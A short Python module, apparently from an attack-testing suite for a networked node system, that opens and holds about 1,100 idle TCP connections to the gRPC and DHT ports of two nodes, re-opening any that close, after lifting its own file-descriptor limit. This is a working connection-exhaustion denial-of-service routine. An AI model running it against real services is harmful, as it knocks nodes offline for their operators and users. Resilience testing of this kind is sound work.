"""Idle TCP connections, more than the usual limit of open files.

They go to the gRPC port and to the DHT's port of two nodes.
"""

from __future__ import annotations

import asyncio
import contextlib
import resource

from attacks.target import Target

CONNECTIONS = 1_100


async def attack(target: Target) -> None:
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    target.on_attack()
    await asyncio.gather(
        *(_hold(target, place.host, port) for place in target.places[:2] for port in (place.port + 1, place.port))
    )


async def _hold(target: Target, host: str, port: int) -> None:
    """So many at a time; what the node closes is opened again."""
    held: list[asyncio.StreamWriter] = []
    while True:
        while len(held) < CONNECTIONS:
            with contextlib.suppress(OSError, TimeoutError):
                async with asyncio.timeout(2):
                    held.append((await asyncio.open_connection(host, port))[1])
                    target.arrived["connections"] += 1
                continue
            break
        await asyncio.sleep(1)
        held = [writer for writer in held if not writer.is_closing() and not _has_ended(writer)]


def _has_ended(writer: asyncio.StreamWriter) -> bool:
    reader = writer.transport.get_protocol()._stream_reader  # type: ignore[attr-defined]
    return bool(reader.at_eof())
